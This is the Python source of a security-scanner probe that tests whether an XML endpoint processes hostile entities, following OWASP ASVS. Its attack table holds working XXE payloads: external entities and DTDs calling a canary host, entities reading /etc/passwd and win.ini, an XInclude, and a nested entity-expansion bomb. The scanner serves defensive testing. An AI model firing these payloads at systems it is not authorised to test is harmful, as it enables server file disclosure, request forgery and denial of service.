"""xml.xxe: an endpoint gets XML with entities, document types and XInclude; it must neither follow nor expand them.

Sources: OWASP ASVS 5.0, 1.5.1; XML 1.0, section 4; XInclude 1.0; SOAP 1.2 part 1, section 5.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from eqlab.core.errors import ConfigurationError
from eqlab.core.exchange import Headers, Response
from eqlab.core.finding import Finding
from eqlab.core.issue import Issue
from eqlab.core.probe import Mode, Probe, Sighting, Surroundings
from eqlab.core.text import Words, words
from eqlab.probe.author import Values, choice, make_probe, text
from eqlab.probe.author import words as fields
from eqlab.probe.hostile import issues
from eqlab.probe.hostile.canary import ADDRESS, Canary, canary
from eqlab.probe.parameters import numbers, secret_of, url
from eqlab.probe.reach import TRUST, Ask, Reach, Unreached, not_looked, trusting_context
from eqlab.probe.sight import seen_by, tell
from eqlab.wire.problem import ProblemKind

NAME = "xml.xxe"
MARKER = "EQLAB-HERE"
_DECLARATION = re.compile(r"\ufeff?\s*<\?xml[^>]{0,200}\?>")
_ROOT = re.compile(r"<([A-Za-z_][\w.:-]{0,100})")
_MARK = "eqlabexpanded4711"
_FILES = re.compile(rb"root:[^:\n]{0,40}:0:0:|\[fonts\]", re.IGNORECASE)
_CLAUSE = "OWASP ASVS 5.0, 1.5.1"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One hostile document."""

    name: str
    says: Words
    doctype: Callable[[str, str], str] = lambda _root, _canary: ""
    """(name of the root element, address of the canary) -> what stands before the root."""
    text: Callable[[str], str] = lambda _canary: "eqlab"
    """(address of the canary) -> what stands at the marker."""
    calls: bool = False
    """True when it names the canary."""


def _nested(root: str, _canary: str) -> str:
    """Return entities of which each holds the one before ten times: some megabytes when expanded."""
    levels = [f'<!ENTITY a0 "{_MARK}">']
    levels += [f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 6)]
    return f"<!DOCTYPE {root} [{''.join(levels)}]>"


_INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}" parse="text"/>'
ATTACKS = (
    Attack(
        name="internal",
        says=words("an internal entity"),
        doctype=lambda root, _canary: f'<!DOCTYPE {root} [<!ENTITY e "{_MARK}">]>',
        text=lambda _canary: "&e;",
    ),
    Attack(
        name="external",
        says=words("an external entity"),
        doctype=lambda root, address: f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{address}">]>',
        text=lambda _canary: "&e;",
        calls=True,
    ),
    Attack(
        name="external-dtd",
        says=words("an external document type"),
        doctype=lambda root, address: f'<!DOCTYPE {root} SYSTEM "{address}">',
        calls=True,
    ),
    Attack(
        name="parameter",
        says=words("an external parameter entity"),
        doctype=lambda root, address: f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{address}"> %p;]>',
        calls=True,
    ),
    Attack(
        name="file",
        says=words("an entity from a file of the server"),
        doctype=lambda root, _canary: f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        text=lambda _canary: "&e;",
    ),
    Attack(
        name="windows-file",
        says=words("an entity from a file of the server"),
        doctype=lambda root, _canary: f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]>',
        text=lambda _canary: "&e;",
    ),
    Attack(
        name="xinclude",
        says=words("an XInclude"),
        text=lambda address: _INCLUDE.format(address=address),
        calls=True,
    ),
    Attack(name="expansion", says=words("nested entities"), doctype=_nested, text=lambda _canary: "&a5;"),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Template:
    """The author's document, cut where attacks are put in."""

    declaration: str
    root: str
    rest: str
    marker: str

    @classmethod
    def of(cls, document: str, marker: str) -> "Template":
        """Cut a document. Raises ConfigurationError when it is not fit for it."""
        declared = _DECLARATION.match(document)
        rest = document[declared.end() if declared else 0 :]
        root = _ROOT.search(rest)
        why = words("it holds the marker {count} times", count=str(document.count(marker)))
        if root is None:
            why = words("it has no element")
        elif "<!DOCTYPE" in document:
            why = words("it has a document type already")
        if root is None or document.count(marker) != 1 or "<!DOCTYPE" in document:
            raise ConfigurationError(issues.DOCUMENT_UNUSABLE, why=why, marker=marker)
        return cls(declaration=declared[0] if declared else "", root=root[1], rest=rest, marker=marker)

    def good(self) -> bytes:
        """Return the document with a harmless word."""
        return (self.declaration + self.rest.replace(self.marker, "eqlab")).encode()

    def hostile(self, attack: Attack, address: str) -> bytes:
        """Return the document with an attack."""
        body = self.rest.replace(self.marker, attack.text(address))
        return (self.declaration + attack.doctype(self.root, address) + body).encode()


class _Endpoint:
    """The endpoint under test."""

    def __init__(self, values: Values, surroundings: Surroundings) -> None:
        self.target = values["url"]
        self._method, self.accepted = values["method"], values["accepted"]
        secret = secret_of(surroundings, NAME, values["token"]) if values["token"] else ""
        own: Headers = tuple((name.lower(), value) for name, value in values["headers"].items())
        token: Headers = (("authorization", f"Bearer {secret}"),) if secret else ()
        self._headers: Headers = (("content-type", values["type"]), *own, *token)
        self._reach = Reach.of(surroundings)
        self._context = trusting_context(values["trust"], surroundings)
        self.statuses: dict[str, int | str] = {}

    def send(self, name: str, document: bytes) -> Response:
        ask = Ask(url=self.target, method=self._method, headers=self._headers, body=document)
        try:
            response = self._reach.call(ask, self._context)
        except Unreached as error:
            self.statuses[name] = error.problem.words
            raise
        self.statuses[name] = response.status
        return response

    def tell(self, issue: Issue, **facts: str) -> Finding:
        return tell(issue, NAME, self.target, {"target": self.target, **facts})


def _look(values: Values, surroundings: Surroundings) -> Sighting:
    document = surroundings.files(values["file"]).decode("utf-8", "replace") if values["file"] else values["document"]
    template, endpoint = Template.of(document, values["marker"]), _Endpoint(values, surroundings)
    told: list[Finding] = []
    with canary(values["canary"], surroundings.host) as bird:
        try:
            good = endpoint.send("good", template.good())
            if good.status not in endpoint.accepted:
                told.append(endpoint.tell(issues.GOOD_DOCUMENT_REFUSED, status=str(good.status)))
            else:
                told += [one for attack in ATTACKS for one in _attack(endpoint, template, attack, bird)]
        except Unreached as error:
            told.append(not_looked(NAME, endpoint.target, error.problem))
    raw = {"target": endpoint.target, "answers": endpoint.statuses}
    return seen_by(NAME, told, raw, attacks=str(max(0, len(endpoint.statuses) - 1)))


def _attack(endpoint: _Endpoint, template: Template, attack: Attack, bird: Canary) -> Iterator[Finding]:
    hostile = template.hostile(attack, bird.address(attack.name))
    response: Response | None = None
    try:
        response = endpoint.send(attack.name, hostile)
    except Unreached as error:
        if attack.name != "expansion" or error.problem.kind not in (ProblemKind.TIMEOUT, ProblemKind.CLOSED):
            raise
        yield endpoint.tell(issues.DOCUMENT_BREAKS, bad=attack.says, why=error.problem.words)
    facts = {"bad": attack.says, "clause": _CLAUSE}
    if attack.calls and bird.heard(attack.name):
        yield endpoint.tell(issues.ENTITY_FETCHED, **facts)
    elif response is not None and (_MARK.encode() in response.body.data or _FILES.search(response.body.data)):
        yield endpoint.tell(issues.ENTITY_EXPANDED, **facts)
    elif response is not None and response.status in endpoint.accepted and attack.name != "xinclude":
        yield endpoint.tell(issues.DOCTYPE_ACCEPTED, bad=attack.says, status=str(response.status))
    elif attack.name == "expansion" and response is not None and response.status in (502, 503, 504):
        yield endpoint.tell(
            issues.DOCUMENT_BREAKS, bad=attack.says, why=words("status {status}", status=str(response.status))
        )


XML_XXE: Probe = make_probe(
    NAME,
    Mode.ACTIVE,
    title={"en": "Hostile XML", "fr": "XML malveillant", "de": "Bösartiges XML"},
    does={
        "en": "Sends external entities, entity expansion and XInclude in documents, metadata and SOAP messages.",
        "fr": "Envoie des entités externes, des expansions d'entités et des XInclude dans les documents, les "
        "métadonnées et les messages SOAP.",
        "de": "Sendet externe Entitäten, Entitätsexpansion und XInclude in Dokumenten, Metadaten und SOAP-Nachrichten.",
    },
    parameters={
        "url": url("Address that takes XML.", required=True),
        "method": choice("Method of the calls.", ("POST", "PUT"), default="POST"),
        "type": text("Type of the document.", default="application/xml"),
        "headers": fields("Further headers, e.g. soapaction."),
        "document": text(f"A good document with the marker {MARKER} as text of an element.", default=""),
        "file": text("Name of a file handed in, in place of `document`."),
        "marker": text("The marker.", default=MARKER),
        "accepted": numbers("Status codes of an accepted document.", default=(200, 201, 202, 204)),
        "token": text("Name of the secret with a bearer token."),
        "canary": ADDRESS,
        "trust": TRUST,
    },
    look=_look,
)
